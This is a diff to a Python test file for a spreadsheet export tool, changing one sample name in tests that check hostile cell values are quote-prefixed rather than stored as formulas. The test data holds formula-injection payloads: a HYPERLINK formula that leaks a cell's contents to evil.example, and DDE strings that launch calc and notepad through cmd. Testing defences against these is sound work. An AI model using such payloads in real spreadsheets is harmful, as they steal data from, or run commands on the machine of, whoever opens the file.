@@ -255,7 +255,7 @@ def test_output_that_is_an_input_is_refused(tmp_path):
 # Names a tracker could hold: every text column of the pack (project, person, type) gets some.
 HOSTILE_PROJECTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
                     "@SUM(1+1)", "Проект Альфа 项目", "🚀 launch 👩‍💻", "line one\nline two", "p" * 10_000]
-HOSTILE_PEOPLE = ["=1+2", "-Ann Lee", "@Bo", "Зоя Ли", "李 娜", "Émile 🙂"]
+HOSTILE_PEOPLE = ["=1+2", "-Ada Quist", "@Bo", "Зоя Ли", "李 娜", "Émile 🙂"]
 HOSTILE_ROLE = "=Summary!$A$1"  # xlsxwriter reads a series name like this as a cell reference
 HOSTILE_MANAGERS = ["=cmd|' /C notepad'!'A1'", "+Mgr", "\tTab Mgr"]
 N_TRIALS = 500
@@ -340,7 +340,7 @@ def test_no_formula_anywhere_and_hostile_text_is_quoted(book):
                     if c.value.startswith(W.FORMULA_PREFIXES):
                         assert c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value[:20]!r} is not quote-prefixed"
     assert set(HOSTILE_PROJECTS[:4]) <= seen
-    assert {"=1+2", "-Ann Lee", "Зоя Ли", "李 娜", "Émile 🙂", "=review()", "+deploy"} <= seen
+    assert {"=1+2", "-Ada Quist", "Зоя Ли", "李 娜", "Émile 🙂", "=review()", "+deploy"} <= seen
     assert HOSTILE_MANAGERS[0] in seen  # the manager of an open project, on the Projects sheet
 
 
